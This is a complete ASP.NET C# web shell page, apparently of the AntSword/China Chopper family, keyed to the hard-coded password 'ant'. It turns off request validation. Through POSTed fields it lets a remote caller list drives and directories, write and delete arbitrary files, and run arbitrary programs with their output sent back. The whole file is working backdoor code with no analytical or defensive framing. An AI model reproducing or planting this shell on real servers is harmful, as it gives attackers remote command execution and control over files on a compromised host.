<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    string Pwd = "ant";
    string cs = "UTF-8";
    void Page_Load(object sender, EventArgs e)
    {
        string Z = Request.Form[Pwd];
        if (Z == null) return;
        string z1 = Request.Form["z1"], z2 = Request.Form["z2"];
        Response.Write("->|");
        try {
            switch (Z) {
                case "A": Response.Write(Server.MapPath(".") + "\t"); foreach (DriveInfo d in DriveInfo.GetDrives()) Response.Write(d.Name); break;
                case "B": foreach (string f in Directory.GetFileSystemEntries(z1)) Response.Write(Path.GetFileName(f) + "\t" + File.GetLastWriteTime(f) + "\n"); break;
                case "D": File.WriteAllText(z1, z2); Response.Write("1"); break;
                case "E": if (Directory.Exists(z1)) Directory.Delete(z1, true); else File.Delete(z1); Response.Write("1"); break;
                case "M":
                    ProcessStartInfo c = new ProcessStartInfo(z1.Substring(2));
                    c.Arguments = z2; c.UseShellExecute = false; c.RedirectStandardOutput = true; c.RedirectStandardError = true;
                    Process p = Process.Start(c);
                    Response.Write(p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd());
                    break;
            }
        } catch (Exception ex) { Response.Write("ERROR:// " + ex.Message); }
        Response.Write("|<-");
    }
</script>
